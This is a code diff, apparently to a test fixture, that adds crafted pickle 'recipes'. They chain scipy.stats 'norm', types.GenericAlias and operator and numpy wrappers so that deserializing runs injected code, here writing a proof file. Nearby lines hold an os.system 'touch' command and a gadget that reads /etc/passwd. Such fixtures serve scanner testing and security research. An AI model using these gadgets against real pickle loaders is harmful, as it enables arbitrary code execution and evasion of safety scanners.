@@ -81,6 +81,8 @@ keyed = called(name("collections", "OrderedDict")) + attributes(keys=writes) + b
 nothing = b"}\x94"  # a dict that is entry 0 of the memo
 first = b"h\x00"
 command = "y ~ __import__('os').system('touch %s')" % proof
+norm, alias = name("scipy.stats", "norm"), name("types", "GenericAlias")
+template = attributes(_parse_arg_template=s("open(%r, 'w').close()" % proof)) + b"b"
 recipes = {
     # what __setstate__ and __new__ do with what is in a state
     "axis": made(name("pandas.core.internals.managers", "SingleBlockManager"), manager),
@@ -160,6 +162,17 @@ recipes = {
     "compiled.base": called(name("copyreg", "_reconstructor"), reader, reader, s("/etc/passwd")),
     "compiled.measure": called(name("sklearn.neighbors._ball_tree", "BallTree64"), items(items(ONE)), b"K\x01", s("pyfunc")),
     "compiled.property": called(name("pandas._libs.properties", "CachedProperty"), analyze),
+    # results that stand for what they were made of: scipy's distributions run the text of which their methods are made
+    "forwarded": called(alias, norm, row()) + template,
+    "forwarded.new": alias + row(norm, row()) + b"\x81" + template,
+    "forwarded.nested": called(alias, called(alias, norm, row()), row()) + template,
+    "forwarded.parameter": called(name("operator", "getitem"), called(alias, norm, name("typing", "AnyStr")), name("builtins", "int")) + template,
+    "forwarded.union": called(name("operator", "getitem"), name("typing", "Union"), norm) + template,
+    "forwarded.reduced": called(name("functools", "reduce"), name("operator", "or_"), row(norm)) + template,
+    "forwarded.object": called(name("numpy", "object_"), norm) + template,
+    "forwarded.truth": called(name("numpy", "logical_or"), norm, norm) + template,
+    "program": name("unittest.__main__", "main"),
+    "program.setup": name("setup", "main"),
     # what the loading process has one of
     "logger": called(name("logging", "getLogger"), s("joblib")) + attributes(isEnabledFor=writer) + b"b",
     "member.enumeration": called(name("catboost.core", "EFstrType"), b"K\x00") + attributes(value=writer) + b"b",
